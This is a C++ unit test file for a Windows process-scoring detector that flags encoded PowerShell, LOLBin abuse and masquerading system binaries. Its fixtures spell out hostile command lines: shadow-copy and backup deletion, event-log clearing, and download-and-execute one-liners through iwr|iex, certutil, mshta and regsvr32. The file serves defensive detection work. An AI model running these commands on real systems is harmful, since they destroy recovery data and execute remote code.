#include "procmon/extended_process_rules.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>

#include "core/text.h"
#include "procmon/process_heuristics.h"

namespace {

// Base64 of UTF-16LE text, as a PowerShell host expects it.
std::wstring Encoded(const std::u16string& text) {
    static const char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string bytes;
    for (const char16_t u : text) {
        bytes += static_cast<char>(u & 0xFF);
        bytes += static_cast<char>(u >> 8);
    }
    std::wstring out;
    for (size_t i = 0; i < bytes.size(); i += 3) {
        const size_t n = bytes.size() - i < 3 ? bytes.size() - i : 3;
        uint32_t v = 0;
        for (size_t k = 0; k < 3; ++k) v = (v << 8) | (k < n ? static_cast<unsigned char>(bytes[i + k]) : 0u);
        for (size_t k = 0; k < 4; ++k)
            out += k <= n ? static_cast<wchar_t>(kAlphabet[(v >> (18 - 6 * k)) & 63]) : L'=';
    }
    return out;
}

}  // namespace

TEST(IsEncodedCommandParameter, PrefixesOfEncodedCommandAndItsAliasOnly) {
    const struct {
        const wchar_t* parameter;
        bool expected;
    } cases[] = {
        {L"e", true},
        {L"ec", true},
        {L"en", true},
        {L"enc", true},
        {L"enco", true},
        {L"encod", true},
        {L"encode", true},
        {L"encoded", true},
        {L"encodedc", true},
        {L"encodedcommand", true},
        {L"ENC", true},
        {L"EncodedCommand", true},
        {L"Ec", true},
        {L"encoding", false},
        {L"encodedcommandx", false},
        {L"encodeda", false},
        {L"encodedarguments", false},
        {L"ex", false},
        {L"ep", false},
        {L"executionpolicy", false},
        {L"c", false},
        {L"command", false},
        {L"", false},
        {L"ecc", false},
    };
    for (const auto& c : cases)
        EXPECT_EQ(IsEncodedCommandParameter(c.parameter), c.expected) << WideToUtf8(c.parameter);
}

TEST(FindEncodedCommand, ReadsTheHostsParametersNotTheWholeLine) {
    const struct {
        const char* what;
        const wchar_t* commandLine;
        bool nameIsPowerShell;
        bool found;
        const wchar_t* payload;
    } cases[] = {
        {"short form", L"powershell -e QQBB", true, true, L"QQBB"},
        {"alias, upper case", L"POWERSHELL.EXE -EC QQBB", true, true, L"QQBB"},
        {"slash", L"powershell /enc QQBB", true, true, L"QQBB"},
        {"en dash", L"powershell \u2013enco QQBB", true, true, L"QQBB"},
        {"inline value", L"powershell -EncodedCommand:QQBB", true, true, L"QQBB"},
        {"after flags and valued parameters",
         L"powershell -NoP -NonI -W Hidden -ExecutionPolicy Bypass -e QQBB", true, true, L"QQBB"},
        {"quoted host path with blanks", L"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -encodedc QQBB",
         true, true, L"QQBB"},
        {"full path through WindowsPowerShell",
         L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e QQBB", true, true, L"QQBB"},
        {"started by cmd", L"cmd.exe /c powershell -w hidden -e QQBB", false, true, L"QQBB"},
        {"quoted payload", L"powershell -e \"QQBB\"", true, true, L"QQBB"},
        {"no payload", L"powershell -e", true, true, L""},
        {"arguments only", L"-enc QQBB", true, true, L"QQBB"},
        {"arguments only, not a host", L"-enc QQBB", false, false, L""},
        {"-Encoding belongs to a cmdlet", L"powershell -Command \"Get-Content x -Encoding UTF8\"", true,
         false, L""},
        {"-Encoding on the host line", L"powershell -Encoding utf8", true, false, L""},
        {"after -File the rest are script arguments", L"powershell -File x.ps1 -e QQBB", true, false, L""},
        {"after -c the rest is the command", L"powershell -c Write-Host -e", true, false, L""},
        {"a bare word starts the command", L"powershell Get-Date -e QQBB", true, false, L""},
        {"a valued parameter's value is skipped", L"powershell -ExecutionPolicy -e", true, false, L""},
        {"another tool's -e", L"node.exe -e \"console.log(1)\"", false, false, L""},
        {"grep -e", L"findstr -e foo", false, false, L""},
        {"host name inside a longer word", L"mypowershelltool -e QQBB", false, false, L""},
    };
    for (const auto& c : cases) {
        std::wstring payload = L"stale";
        EXPECT_EQ(FindEncodedCommand(c.commandLine, c.nameIsPowerShell, payload), c.found) << c.what;
        if (c.found) {
            EXPECT_EQ(payload, c.payload) << c.what;
        }
    }
}

TEST(DecodeEncodedCommand, Base64OfWholeUtf16Units) {
    std::u16string text;
    EXPECT_TRUE(DecodeEncodedCommand(L"VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGkA", text));
    EXPECT_EQ(text, u"Write-Output hi");
    EXPECT_TRUE(DecodeEncodedCommand(Encoded(u"a\u00e9\U0001F600"), text));
    EXPECT_EQ(text, u"a\u00e9\U0001F600");
    EXPECT_TRUE(DecodeEncodedCommand(L"QQA=", text));
    EXPECT_EQ(text, u"A");

    const wchar_t* const undecodable[] = {
        L"",           // nothing
        L"QQA",        // not a multiple of 4
        L"QQ==",       // one byte: half a unit
        L"QQBC QQ==",  // a blank inside
        L"QQ=A",       // data after padding
        L"Q===",       // too much padding
        L"QQB!",       // outside the alphabet
        L"QQB-",       // the URL alphabet is not accepted
        L"\u00c4QBC",  // non-ASCII
    };
    for (const wchar_t* payload : undecodable) {
        EXPECT_FALSE(DecodeEncodedCommand(payload, text)) << WideToUtf8(payload);
        EXPECT_TRUE(text.empty()) << WideToUtf8(payload);
    }
}

TEST(Utf16PrefixToUtf8, CutsAtTheLimitWithoutSplittingAPair) {
    const std::u16string pair = u"\U0001F600";  // D83D DE00
    struct Case {
        const char* what;
        std::u16string text;
        size_t limit;
        std::string expected;
    } cases[] = {
        {"short text whole", u"abc", 200, "abc"},
        {"cut at the limit", std::u16string(250, u'x'), 200, std::string(200, 'x')},
        {"pair fits at the end", std::u16string(198, u'x') + pair, 200,
         std::string(198, 'x') + "\xF0\x9F\x98\x80"},
        {"pair would be split: one unit fewer", std::u16string(199, u'x') + pair + u"y", 200,
         std::string(199, 'x')},
        {"lone high surrogate",
         u"a\xD800"
         u"b",
         200,
         "a\xEF\xBF\xBD"
         "b"},
        {"lone low surrogate", u"\xDC00", 200, "\xEF\xBF\xBD"},
        {"two-byte and three-byte forms", u"\u00e9\u20ac", 200, "\xC3\xA9\xE2\x82\xAC"},
        {"NUL kept", std::u16string(u"a\0b", 3), 200, std::string("a\0b", 3)},
        {"limit zero", u"abc", 0, ""},
    };
    for (const Case& c : cases) EXPECT_EQ(Utf16PrefixToUtf8(c.text, c.limit), c.expected) << c.what;
}

TEST(ScoreProcessExtended, SignalTable) {
    const std::wstring ps = L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    const struct {
        const char* what;
        std::wstring name, path, commandLine;
        int32_t score;
        const char* fragment;
        const char* decoded;  // the "decoded" member's text, or nullptr for none
    } cases[] = {
        {"clean", L"notepad.exe", L"C:\\Windows\\System32\\notepad.exe", L"notepad x.txt", 0, "\"score\":0",
         nullptr},
        {"-e selects an encoded command, decoded", L"powershell.exe", ps,
         L"powershell -e VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGkA", 60,
         "\"score\":60,\"signals\":[\"script_engine_powershell\",\"encoded_command\"]", "Write-Output hi"},
        {"the decoded command is scored too", L"powershell.exe", ps,
         L"powershell -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzACAALwBhAGwAbAA=", 100,
         "\"score\":100,\"signals\":[\"script_engine_powershell\",\"encoded_command\",\"shadowcopy_"
         "command\"]",
         "vssadmin delete shadows /all"},
        {"undecodable payload", L"powershell.exe", ps, L"powershell -enc not!base64", 75,
         "\"score\":75,\"signals\":[\"script_engine_powershell\",\"encoded_command\",\"encoded_command_"
         "undecodable\"]",
         nullptr},
        {"-Encoding is no encoded command", L"tool.exe", L"C:\\Windows\\tool.exe", L"tool -Encoding utf8", 0,
         "\"score\":0", nullptr},
        {"FromBase64String still counts", L"pwsh.exe", L"C:\\Program Files\\PowerShell\\7\\pwsh.exe",
         L"pwsh -c [Convert]::FromBase64String('x')", 65,
         "\"score\":65,\"signals\":[\"script_engine_powershell\",\"encoded_command\",\"non_windows_system_"
         "drive\"]",
         nullptr},
        {"started by cmd", L"cmd.exe", L"C:\\Windows\\System32\\cmd.exe",
         L"cmd /c powershell -e VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGkA", 60,
         "\"score\":60,\"signals\":[\"encoded_command\",\"powershell_started_by_command\"]",
         "Write-Output hi"},
        {"empty path is unknown, never outside", L"svchost.exe", L"", L"", 0, "\"score\":0", nullptr},
        {"core name in a user folder", L"svchost.exe", L"C:\\Users\\u\\AppData\\Roaming\\svchost.exe", L"",
         70, "\"score\":70,\"signals\":[\"user_space_location\",\"core_name_masquerade\"]", nullptr},
        {"core name in a fake system folder", L"svchost.exe",
         L"C:\\Users\\u\\AppData\\Local\\Windows\\System32\\svchost.exe", L"", 70,
         "\"score\":70,\"signals\":[\"user_space_location\",\"core_name_masquerade\"]", nullptr},
        {"core name beside the system folder", L"services.exe", L"C:\\Windows\\services.exe", L"", 60,
         "\"score\":60,\"signals\":[\"core_name_masquerade\"]", nullptr},
        {"core name in the system folder", L"LSASS.EXE", L"C:\\Windows\\System32\\lsass.exe", L"", 0,
         "\"score\":0", nullptr},
        {"core name as the kernel reports it", L"smss.exe", L"\\SystemRoot\\System32\\smss.exe", L"", 0,
         "\"score\":0", nullptr},
        {"core name with a device prefix", L"csrss.exe", L"\\??\\C:\\Windows\\system32\\csrss.exe", L"", 0,
         "\"score\":0", nullptr},
        {"boot recovery off", L"bcdedit.exe", L"C:\\Windows\\System32\\bcdedit.exe",
         L"bcdedit /set {default} recoveryenabled No", 65,
         "\"score\":65,\"signals\":[\"backup_or_boot_tool\",\"boot_recovery_disabled\"]", nullptr},
        {"boot recovery on stays quiet", L"bcdedit.exe", L"C:\\Windows\\System32\\bcdedit.exe",
         L"bcdedit /set {default} recoveryenabled Yes", 25,
         "\"score\":25,\"signals\":[\"backup_or_boot_tool\"]", nullptr},
        {"backup catalog deleted", L"wbadmin.exe", L"C:\\Windows\\System32\\wbadmin.exe",
         L"wbadmin delete catalog -quiet", 65,
         "\"score\":65,\"signals\":[\"backup_or_boot_tool\",\"backup_deletion\"]", nullptr},
        {"log cleared", L"wevtutil.exe", L"C:\\Windows\\System32\\wevtutil.exe", L"wevtutil cl System", 60,
         "\"score\":60,\"signals\":[\"event_log_clearing\"]", nullptr},
        {"log queried", L"wevtutil.exe", L"C:\\Windows\\System32\\wevtutil.exe", L"wevtutil qe System /c:5",
         0, "\"score\":0", nullptr},
        {"certutil download", L"certutil.exe", L"C:\\Windows\\System32\\certutil.exe",
         L"certutil -urlcache -split -f http://x/a.exe a.exe", 60,
         "\"score\":60,\"signals\":[\"lolbin_tool\",\"system_tool_download\"]", nullptr},
        {"certutil hash", L"certutil.exe", L"C:\\Windows\\System32\\certutil.exe",
         L"certutil -hashfile a.iso SHA256", 15, "\"score\":15,\"signals\":[\"lolbin_tool\"]", nullptr},
        {"download piped into execution", L"powershell.exe", ps, L"powershell \"iwr http://x/s.ps1 | iex\"",
         105,
         "\"score\":105,\"signals\":[\"script_engine_powershell\",\"invoke_expression\",\"download_piped_to_"
         "execution\"]",
         nullptr},
        {"download to a file", L"powershell.exe", ps,
         L"powershell -c \"iwr https://x/d.json -OutFile d.json\"", 25,
         "\"score\":25,\"signals\":[\"script_engine_powershell\"]", nullptr},
        {"mshta remote", L"mshta.exe", L"C:\\Windows\\System32\\mshta.exe", L"mshta http://x/a.hta", 65,
         "\"score\":65,\"signals\":[\"lolbin_mshta\",\"script_host_remote_code\"]", nullptr},
        {"regsvr32 scriptlet", L"regsvr32.exe", L"C:\\Windows\\System32\\regsvr32.exe",
         L"regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll", 60,
         "\"score\":60,\"signals\":[\"lolbin_dll_loader\",\"script_host_remote_code\"]", nullptr},
        {"script from downloads", L"wscript.exe", L"C:\\Windows\\System32\\wscript.exe",
         L"wscript.exe C:\\Users\\u\\Downloads\\invoice.js", 60,
         "\"score\":60,\"signals\":[\"script_host\",\"script_from_user_folder\"]", nullptr},
        {"a .json is no script", L"wscript.exe", L"C:\\Windows\\System32\\wscript.exe",
         L"wscript.exe C:\\Users\\u\\Downloads\\x.json", 20, "\"score\":20,\"signals\":[\"script_host\"]",
         nullptr},
        {"iexplore is no iex", L"iexplore.exe", L"C:\\Program Files\\Internet Explorer\\iexplore.exe",
         L"iexplore.exe http://x/", 5, "\"score\":5,\"signals\":[\"non_windows_system_drive\"]", nullptr},
    };
    for (const auto& c : cases) {
        std::string fragment = "left over", decoded = "left over";
        EXPECT_EQ(ScoreProcessExtended(c.name, c.path, c.commandLine, fragment, decoded), c.score) << c.what;
        EXPECT_EQ(fragment, c.fragment) << c.what;
        if (c.decoded) {
            EXPECT_EQ(decoded, std::string("\"decoded\":\"") + c.decoded + "\"") << c.what;
        } else {
            EXPECT_EQ(decoded, "") << c.what;
        }
        const auto parsed = nlohmann::json::parse(
            "{" + fragment + (decoded.empty() ? "" : "," + decoded) + "}", nullptr, false);
        EXPECT_TRUE(parsed.is_object()) << c.what;
    }
}

// The "decoded" member holds the first 200 units, escaped like any other text.
TEST(ScoreProcessExtended, DecodedMemberIsCutAndEscaped) {
    std::u16string script = u"Write-Host \"a\\b\"\t";
    script += std::u16string(182, u'z');
    script += u"\U0001F600 tail";  // the pair is units 199 and 200: it would be split, so it goes
    ASSERT_EQ(script.size(), 17u + 182u + 7u);
    std::string fragment, decoded;
    ScoreProcessExtended(L"powershell.exe", L"", L"powershell -e " + Encoded(script), fragment, decoded);
    const auto j = nlohmann::json::parse("{" + decoded + "}", nullptr, false);
    ASSERT_TRUE(j.is_object()) << decoded;
    EXPECT_EQ(j["decoded"], "Write-Host \"a\\b\"\t" + std::string(182, 'z'));
    EXPECT_EQ(decoded.find('\t'), std::string::npos);
}

// Signals kept from ScoreProcess keep their names and points: on lines that
// touch none of the changed tests, both scores agree.
TEST(ScoreProcessExtended, AgreesWithScoreProcessWhereNothingChanged) {
    const struct {
        const wchar_t* name;
        const wchar_t* path;
        const wchar_t* commandLine;
    } cases[] = {
        {L"WMIC.exe", L"C:\\Windows\\System32\\wbem\\WMIC.exe", L"wmic process list"},
        {L"vssadmin.exe", L"C:\\Windows\\System32\\vssadmin.exe", L"vssadmin delete shadows /all /quiet"},
        {L"wscript.exe", L"C:\\Windows\\SysWOW64\\wscript.exe", L"wscript x.vbs"},
        {L"cmd.exe", L"C:\\Windows\\System32\\cmd.exe", L"cmd.exe /c compact /u"},
        {L"Invoice_2024.exe", L"C:\\Users\\user\\Downloads\\Invoice_2024.exe", L""},
        {L"setup.exe", L"C:\\Windows\\Temp\\setup.exe", L""},
        {L"tool.exe", L"D:\\Tools\\tool.exe", L"tool --help"},
        {L"powershell_ise.exe", L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe", L""},
    };
    for (const auto& c : cases) {
        std::string specified, extended, decoded;
        EXPECT_EQ(ScoreProcessExtended(c.name, c.path, c.commandLine, extended, decoded),
                  ScoreProcess(c.name, c.path, c.commandLine, specified))
            << WideToUtf8(c.commandLine);
        EXPECT_EQ(extended, specified) << WideToUtf8(c.name);
    }
}
